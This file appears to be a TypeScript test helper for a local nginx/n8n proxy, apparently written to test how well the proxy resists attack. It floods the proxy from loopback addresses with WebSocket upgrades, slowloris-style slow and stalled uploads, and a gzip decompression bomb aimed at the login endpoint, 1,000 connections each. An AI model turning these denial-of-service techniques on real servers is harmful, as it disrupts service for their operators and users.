import { connect, type Socket } from 'node:net';
import { gzipSync } from 'node:zlib';
import { HOST_NAME } from '../../tools/n8n/servers/proxy.cts';

const CONNECTIONS = 1000;
const BYTE_EVERY_MS = 5000;

/** A way to take nginx or n8n from others, from an address in 127.0.0.0/8. */
interface Attack {
	readonly from: string;
	readonly sent: (target: string) => readonly Buffer[];
	/** Whether it then sends a byte from time to time. */
	readonly isSlow?: boolean;
}

function head(method: string, target: string, headers: Readonly<Record<string, string | number>>) {
	const lines = Object.entries(headers).map(([name, value]) => `${name}: ${value}\r\n`);
	return Buffer.from(`${method} ${target} HTTP/1.1\r\nHost: ${HOST_NAME}\r\n${lines.join('')}\r\n`);
}

const JSON_TYPE = { 'Content-Type': 'application/json' };
const COMPRESSED = gzipSync(Buffer.from(`[${'0,'.repeat(30_000_000)}0]`));

const ATTACKS = {
	upgrades: {
		from: '127.0.0.11',
		sent: () => [head('GET', '/any', { Connection: 'Upgrade', Upgrade: 'websocket' })],
	},
	slowBodies: {
		from: '127.0.0.12',
		sent: (target) => [head('POST', target, { ...JSON_TYPE, 'Content-Length': 1000 })],
		isSlow: true,
	},
	stalledUploads: {
		from: '127.0.0.13',
		sent: (target) => [
			head('POST', target, { ...JSON_TYPE, 'Content-Length': 64 * 1024 ** 2 }),
			Buffer.alloc(256 * 1024, ' '),
		],
		isSlow: true,
	},
	compressedBodies: {
		from: '127.0.0.14',
		sent: () => [
			head('POST', '/rest/login', {
				...JSON_TYPE,
				'Content-Encoding': 'gzip',
				'Content-Length': COMPRESSED.length,
			}),
			COMPRESSED,
		],
	},
} as const satisfies Readonly<Record<string, Attack>>;

/** Attacks nginx in all ways at once, each with 1,000 connections. Returns a function that ends the attacks. */
export function attack(port: number, target: string): () => void {
	const sockets = Object.values(ATTACKS).flatMap((each) =>
		Array.from({ length: CONNECTIONS }, () => open(each, port, target)),
	);
	return () => sockets.forEach((socket) => socket.destroy());
}

function open({ from, sent, isSlow }: Attack, port: number, target: string): Socket {
	const socket = connect({ host: '127.0.0.1', port, localAddress: from });
	socket.on('error', () => {}).resume();
	socket.on('connect', () => {
		for (const piece of sent(target)) socket.write(piece);
		if (!isSlow) return;
		const timer = setInterval(() => socket.write(' '), BYTE_EVERY_MS);
		socket.on('close', () => clearInterval(timer));
	});
	return socket;
}
